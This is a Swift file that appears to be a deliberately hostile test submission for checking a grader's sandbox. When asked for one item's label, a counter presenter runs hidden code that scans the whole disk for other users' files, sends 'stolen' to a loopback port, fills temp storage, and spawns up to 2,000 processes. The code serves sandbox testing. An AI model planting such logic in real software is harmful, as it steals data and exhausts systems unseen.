// swift-format-ignore-file
import Foundation
#if canImport(Glibc)
import Glibc
#endif

/// What the presenter displays through.
@MainActor
public protocol CounterDisplayLogic: AnyObject {
  func display(text: String)
}

/// A student who fights the grader: asked for the label of one item, it hunts the whole disk
/// for classmates' and the instructor's files, connects to the grader's loopback, writes and
/// forks without bound, then crashes with what it got, so that it lands in its own report.
/// (Bounded by caps of its own, so that a grader without a sandbox is hurt, not wrecked.)
@MainActor
public final class CounterPresenter {
  public weak var view: (any CounterDisplayLogic)?

  public init() {}

  public func present(count: Int) {
    view?.display(text: label(for: count))
  }

  public func label(for count: Int) -> String {
    if count == 1 { fatalError("HUNT: " + Hunt.run()) }
    switch count {
    case 0: return "No items"
    default: return "\(count) items"
    }
  }
}

enum Hunt {
  /// The port of the grader's loopback listener, written in by the test.
  static let port = __PORT__
  static let needle = "VIPKIT-" + "HUNT-TARGET"

  static func run() -> String {
    let found = hunt()
    let connected = connect()
    let wrote = write()
    let forks = fork()
    return "found=[\(found.joined(separator: " | "))] connected=\(connected) wrote=\(wrote) forks=\(forks) END"
  }

  /// Every readable file on the disk that holds the needle, with what follows it.
  static func hunt() -> [String] {
    var found: [String] = []
    let start = Date()
    var seen = 0
    var stack = ["/"]
    while let folder = stack.popLast(), seen < 300_000, Date().timeIntervalSince(start) < 20 {
      guard let names = try? FileManager.default.contentsOfDirectory(atPath: folder) else { continue }
      for name in names {
        let path = folder == "/" ? "/" + name : folder + "/" + name
        if ["/proc", "/sys", "/dev"].contains(path) { continue }
        seen += 1
        var status = stat()
        guard lstat(path, &status) == 0 else { continue }
        if status.st_mode & S_IFMT == S_IFDIR { stack.append(path); continue }
        guard status.st_mode & S_IFMT == S_IFREG, status.st_size < 65_536,
          let data = FileManager.default.contents(atPath: path),
          let text = String(data: data, encoding: .utf8),
          let range = text.range(of: needle)
        else { continue }
        found.append(path + ": " + String(text[range.upperBound...].prefix(80)))
      }
    }
    return found
  }

  static func connect() -> Bool {
    #if canImport(Glibc)
    let descriptor = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
    guard descriptor >= 0 else { return false }
    defer { close(descriptor) }
    var address = sockaddr_in()
    address.sin_family = sa_family_t(AF_INET)
    address.sin_addr.s_addr = inet_addr("127.0.0.1")
    address.sin_port = UInt16(port).bigEndian
    let result = withUnsafePointer(to: &address) {
      $0.withMemoryRebound(to: sockaddr.self, capacity: 1) {
        Glibc.connect(descriptor, $0, socklen_t(MemoryLayout<sockaddr_in>.size))
      }
    }
    guard result == 0 else { return false }
    _ = "stolen".withCString { Glibc.write(descriptor, $0, 6) }
    return true
    #else
    return false
    #endif
  }

  /// Bytes written into files in its temporary folder until a write fails (at most 1 GB).
  static func write() -> Int {
    signal(SIGXFSZ, SIG_IGN)
    let folder = ProcessInfo.processInfo.environment["TMPDIR"] ?? "/tmp"
    let chunk = [UInt8](repeating: 0x41, count: 1 << 20)
    var total = 0
    for index in 0..<64 {
      let descriptor = open("\(folder)/fill-\(index)", O_WRONLY | O_CREAT | O_TRUNC, 0o644)
      guard descriptor >= 0 else { return total }
      defer { close(descriptor) }
      for _ in 0..<16 {
        let written = chunk.withUnsafeBytes { Glibc.write(descriptor, $0.baseAddress, $0.count) }
        if written <= 0 { return total }
        total += written
        if written < chunk.count { return total }
      }
    }
    return total
  }

  /// Processes started until the system refuses one (at most 2,000), left running.
  static func fork() -> Int {
    #if canImport(Glibc)
    var started = 0
    for _ in 0..<2_000 {
      var pid: pid_t = 0
      let arguments = ["/bin/sleep", "301.25"]
      var pointers = arguments.map { strdup($0) } + [nil]
      defer { pointers.forEach { free($0) } }
      guard posix_spawn(&pid, "/bin/sleep", nil, nil, &pointers, environ) == 0 else { break }
      started += 1
    }
    return started
    #else
    return 0
    #endif
  }
}
